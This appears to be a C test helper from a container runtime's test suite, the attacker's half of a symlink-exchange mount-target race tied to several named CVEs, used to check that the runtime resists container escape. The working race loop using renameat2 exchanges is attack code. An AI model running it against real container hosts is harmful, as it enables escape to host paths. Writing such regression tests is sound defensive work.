/* SPDX-License-Identifier: GPL-2.0-or-later */
/* swapper: the attacker's half of a mount-target race (CVE-2021-30465,
   CVE-2019-19921, CVE-2023-27561, CVE-2024-45310): a container that shares
   a volume with one being started keeps exchanging, atomically, a real
   directory and a symbolic link to a host path, hoping that the runtime
   checks the directory and then mounts on (or creates a mount point
   through) the link.  files.bats builds this static and runs it in a
   container of its own.

     swapper DIR A B SECONDS   renameat2(A, B, RENAME_EXCHANGE) in DIR,
                               over and over, for SECONDS; prints "ready"
                               once the first exchange worked, then the
                               count at the end  */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  struct timespec start, now;
  unsigned long n = 0;
  double secs;
  int dfd;

  if (argc != 5)
    {
      fprintf (stderr, "usage: swapper DIR A B SECONDS\n");
      return 2;
    }
  secs = atof (argv[4]);
  dfd = open (argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0)
    {
      fprintf (stderr, "swapper: open %s: %s\n", argv[1], strerror (errno));
      return 1;
    }
  clock_gettime (CLOCK_MONOTONIC, &start);
  for (;;)
    {
      if (renameat2 (dfd, argv[2], dfd, argv[3], RENAME_EXCHANGE) < 0)
        {
          fprintf (stderr, "swapper: exchange %s and %s: %s\n", argv[2], argv[3], strerror (errno));
          return 1;
        }
      if (n++ == 0)
        {
          printf ("ready\n");
          fflush (stdout);
        }
      if ((n & 1023) == 0)
        {
          clock_gettime (CLOCK_MONOTONIC, &now);
          if ((double)(now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 > secs)
            break;
        }
    }
  printf ("%lu exchanges\n", n);
  return 0;
}
